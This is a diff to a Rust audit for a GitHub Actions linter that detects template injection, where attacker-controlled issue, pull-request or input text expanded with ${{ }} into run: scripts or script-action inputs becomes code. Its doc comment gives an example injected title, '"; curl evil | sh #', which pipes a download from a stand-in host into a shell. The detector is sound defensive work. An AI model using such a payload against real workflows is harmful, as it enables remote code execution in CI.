@@ -1,125 +1,196 @@
 //! Expressions are pasted into scripts before the shell or JavaScript sees
 //! them, so an attacker-written issue title such as `"; curl evil | sh #`
 //! becomes code. The fix is to pass the value through `env:` and quote it.
+//!
+//! Each `${{ }}` in a script sink is parsed with `github-actions-expressions`
+//! and judged by the contexts whose value flows into the result (so
+//! `github.event.issue.title == 'x'` is a boolean and harmless), as zizmor
+//! does: free text is high, refs and URLs medium, string inputs medium, env
+//! values and matrix entries set by expressions low or medium, other step
+//! and job outputs informational. Secrets, numbers, SHAs and values set
+//! literally in the workflow are not reported.
 
+use github_actions_expressions::Expr;
+use github_actions_expressions::context::Context;
+use github_actions_models::common::expr::LoE;
+use github_actions_models::common::{Env, EnvValue};
+use github_actions_models::workflow::event::{
+    OptionalBody, WorkflowCallInputType, WorkflowDispatchInputType,
+};
+use github_actions_models::workflow::job::NormalJob;
 use keepopen_findings::{Confidence, Severity};
 
-use crate::context::{Ctx, StepRef, input, is_action};
-use crate::expr::{expressions, matches};
+use crate::capability::{self, Capability};
+use crate::context::{Ctx, JobStep, StepRef, input, is_action};
+use crate::expr::{fenced, has_expression};
 use crate::{AuditInfo, Finding};
 
 pub(crate) const INFO: AuditInfo = AuditInfo {
     id: "workflow-template-injection",
     name: "Template injection",
-    description: "Attacker-controllable contexts expanded with ${{ }} inside run: scripts or github-script code can inject commands.",
+    description: "Attacker-controllable contexts expanded with ${{ }} inside run: scripts or script inputs of actions such as github-script can inject commands.",
     severity: Severity::High,
 };
 
-/// Contexts anyone who can open an issue, pull request or comment controls.
-const ATTACKER_CONTROLLED: &[&str] = &[
-    "github.event.issue.title",
-    "github.event.issue.body",
-    "github.event.pull_request.title",
-    "github.event.pull_request.body",
-    "github.event.pull_request.head.ref",
-    "github.event.pull_request.head.label",
-    "github.event.pull_request.head.repo.default_branch",
-    "github.event.comment.body",
-    "github.event.review.body",
-    "github.event.review_comment.body",
-    "github.event.discussion.title",
-    "github.event.discussion.body",
-    "github.event.pages.*.page_name",
-    "github.event.commits.*.message",
-    "github.event.commits.*.author.*",
-    "github.event.head_commit.message",
-    "github.event.head_commit.author.*",
-    "github.event.workflow_run.head_branch",
-    "github.event.workflow_run.head_commit.*",
-    "github.head_ref",
+/// Actions whose inputs are run as code: (action, inputs).
+const SINKS: &[(&str, &[&str])] = &[
+    ("actions/github-script", &["script"]),
+    ("azure/cli", &["inlineScript"]),
+    ("azure/powershell", &["inlineScript"]),
+    ("appleboy/ssh-action", &["script"]),
+    ("amadevus/pwsh-script", &["script"]),
+    ("jannekem/run-python-script-action", &["script"]),
+    ("cardinalby/js-eval-action", &["expression"]),
+    ("addnab/docker-run-action", &["options", "run"]),
 ];
 
-/// Inputs: controlled by whoever dispatches or calls the workflow.
-const INPUTS: &[&str] = &["inputs.*", "github.event.inputs.*"];
-
 pub(crate) fn run(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
-    for (path, step) in cx.steps() {
-        let (location, script) = match step {
-            StepRef::Run(r) => (format!("{path}.run"), r.run.clone()),
-            StepRef::Uses(u) if is_action(u, "actions/github-script") => match input(u, "script") {
-                Some(s) => (format!("{path}.with.script"), s),
-                None => continue,
-            },
-            StepRef::Uses(_) => continue,
-        };
-        for e in expressions(&script) {
-            for context in &e.contexts {
-                let (severity, confidence) =
-                    if ATTACKER_CONTROLLED.iter().any(|p| matches(context, p)) {
-                        (Severity::High, Confidence::High)
-                    } else if INPUTS.iter().any(|p| matches(context, p)) {
-                        (Severity::Medium, Confidence::Medium)
-                    } else {
+    for js in cx.job_steps() {
+        for (location, script) in scripts(&js) {
+            let mut seen: Vec<&str> = Vec::new();
+            let mut names: Vec<String> = Vec::new();
+            for e in fenced(&script) {
+                let needle = e.raw.lines().next().unwrap_or(e.raw);
+                let nth = seen.iter().filter(|s| **s == needle).count();
+                seen.push(needle);
+                let Ok(parsed) = Expr::parse(e.body) else {
+                    continue;
+                };
+                for (context, _) in parsed.dataflow_contexts() {
+                    let Some((severity, confidence)) = judge(cx, &js, context) else {
                         continue;
                     };
-                let needle = e.raw.lines().next().unwrap_or(e.raw);
-                out.push(cx.finding(
-                    &INFO,
-                    severity,
-                    confidence,
-                    location.clone(),
-                    Some(needle),
-                    format!("`{context}` is expanded into a script; pass it through env: instead"),
-                ));
+                    let name = context
+                        .as_pattern()
+                        .unwrap_or_else(|| e.body.trim().to_owned());
+                    let mut f = cx.finding(
+                        &INFO,
+                        severity,
+                        confidence,
+                        location.clone(),
+                        None,
+                        format!("`{name}` is expanded into a script; pass it through env: instead"),
+                    );
+                    f.line = cx.loc.line_of_nth(&location, needle, nth);
+                    let again = names.iter().filter(|n| **n == name).count();
+                    f.key = format!("{location} {name} {again}");
+                    names.push(name);
+                    out.push(f);
+                }
             }
         }
     }
 }
 
-#[cfg(test)]
-mod tests {
-    use super::*;
-    use crate::audits::findings;
-
-    const ISSUE: &str = "\
-on: issues
-permissions: {}
-jobs:
-  triage:
-    runs-on: ubuntu-latest
-    steps:
-      - name: greet
-        run: |
-          echo hello
-          echo \"${{ github.event.issue.title }}\"
-      - uses: actions/github-script@v7
-        with:
-          script: |
-            console.log(`${{ inputs.name }}`)
-";
-
-    #[test]
-    fn issue_title_in_run_is_high_at_its_own_line() {
-        let f = findings(INFO.id, ISSUE);
-        assert_eq!(f.len(), 2);
-        assert_eq!((f[0].severity, f[0].line), (Severity::High, 10));
-        assert_eq!(f[0].location, "jobs.triage.steps[0].run");
-        assert!(f[0].message.contains("github.event.issue.title"));
-    }
-
-    #[test]
-    fn inputs_in_github_script_are_lower() {
-        let f = findings(INFO.id, ISSUE);
-        assert_eq!((f[1].severity, f[1].line), (Severity::Medium, 14));
-        assert_eq!(f[1].location, "jobs.triage.steps[1].with.script");
-    }
-
-    #[test]
-    fn values_passed_through_env_are_clean() {
-        let f = findings(
-            INFO.id,
-            "on: issues\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo \"$TITLE\" ${{ github.sha }}\n",
-        );
-        assert!(f.is_empty());
+/// The script sinks of a step, with their yamlpaths.
+fn scripts(js: &JobStep<'_>) -> Vec<(String, String)> {
+    match js.step {
+        StepRef::Run(r) => vec![(format!("{}.run", js.path), r.run.clone())],
+        StepRef::Uses(u) => SINKS
+            .iter()
+            .filter(|(action, _)| is_action(u, action))
+            .flat_map(|(_, inputs)| inputs.iter())
+            .filter_map(|name| input(u, name).map(|s| (format!("{}.with.{name}", js.path), s)))
+            .collect(),
     }
 }
+
+/// Severity and confidence of expanding `context` in `js`, or `None` when
+/// the value cannot carry an injection.
+fn judge(cx: &Ctx<'_>, js: &JobStep<'_>, context: &Context<'_>) -> Option<(Severity, Confidence)> {
+    let Some(pattern) = context.as_pattern() else {
+        // A call followed by a path, e.g. `fromJSON(x).y`: unknown content.
+        return Some((Severity::Info, Confidence::Low));
+    };
+    if context.child_of("inputs") || context.child_of("github.event.inputs") {
+        let name = pattern.rsplit('.').next().unwrap_or_default();
+        return match input_is_fixed(cx, name) {
+            Some(true) => None,
+            Some(false) => Some((Severity::Medium, Confidence::High)),
+            None => Some((Severity::Low, Confidence::Low)),
+        };
+    }
+    if let Some(c) = capability::of(&pattern) {
+        return match c {
+            Capability::Fixed => None,
+            Capability::Structured => Some((Severity::Medium, Confidence::High)),
+            Capability::Arbitrary => Some((Severity::High, Confidence::High)),
+        };
+    }
+    if context.child_of("secrets")
+        || context.matches("needs.*.result")
+        || context.matches("steps.*.outcome")
+        || context.matches("steps.*.conclusion")
+        || context.child_of("job.status")
+        || context.child_of("strategy")
+    {
+        return None;
+    }
+    if context.child_of("env") {
+        let name = context.single_tail()?;
+        return (!env_is_static(cx, js, name)).then_some((Severity::Low, Confidence::High));
+    }
+    if context.child_of("matrix") {
+        let static_matrix = matrix_is_static(js.job)?;
+        return (!static_matrix).then_some((Severity::Medium, Confidence::Medium));
+    }
+    // Step and job outputs, `vars`, and the rest: usually written by the
+    // workflow itself, but may carry outside text.
+    Some((Severity::Info, Confidence::Low))
+}
+
+/// Whether a `workflow_dispatch` or `workflow_call` input of this name has
+/// a type that cannot carry text (boolean, number, choice, environment);
+/// `None` when no trigger declares it.
+fn input_is_fixed(cx: &Ctx<'_>, name: &str) -> Option<bool> {
+    let events = &cx.wf.on.events;
+    let mut found = None;
+    if let OptionalBody::Body(d) = &events.workflow_dispatch
+        && let Some((_, i)) = d.inputs.iter().find(|(k, _)| k.eq_ignore_ascii_case(name))
+    {
+        found = Some(!matches!(i.r#type, WorkflowDispatchInputType::String));
+    }
+    if let OptionalBody::Body(c) = &events.workflow_call
+        && let Some((_, i)) = c.inputs.iter().find(|(k, _)| k.eq_ignore_ascii_case(name))
+    {
+        let fixed = !matches!(i.r#type, WorkflowCallInputType::String);
+        found = Some(found.unwrap_or(true) && fixed);
+    }
+    found
+}
+
+/// Whether `env.NAME` is set, in the step, job or workflow `env:`, to a
+/// value with no expression. Anything else (set by `$GITHUB_ENV`, by an
+/// expression, or by a whole-map expression) may carry outside text.
+fn env_is_static(cx: &Ctx<'_>, js: &JobStep<'_>, name: &str) -> bool {
+    let lookup = |env: &LoE<Env>| -> Option<bool> {
+        match env {
+            LoE::Expr(_) => Some(false),
+            LoE::Literal(map) => map
+                .iter()
+                .find(|(k, _)| k.as_str() == name)
+                .map(|(_, v)| !matches!(v, EnvValue::String(s) if has_expression(s))),
+        }
+    };
+    lookup(js.step.env())
+        .or_else(|| lookup(&js.job.env))
+        .or_else(|| lookup(&cx.wf.env))
+        .unwrap_or(false)
+}
+
+/// Whether the job's matrix is written out literally, with no expression
+/// in it; `None` when the job has no matrix.
+fn matrix_is_static(job: &NormalJob) -> Option<bool> {
+    let matrix = job.strategy.as_ref()?.matrix.as_ref()?;
+    Some(match matrix {
+        LoE::Expr(_) => false,
+        LoE::Literal(m) => {
+            let text = format!("{:?}{:?}", m.dimensions, m.include);
+            !has_expression(&text)
+        }
+    })
+}
+
+#[cfg(test)]
+#[path = "template_injection_tests.rs"]
+mod tests;
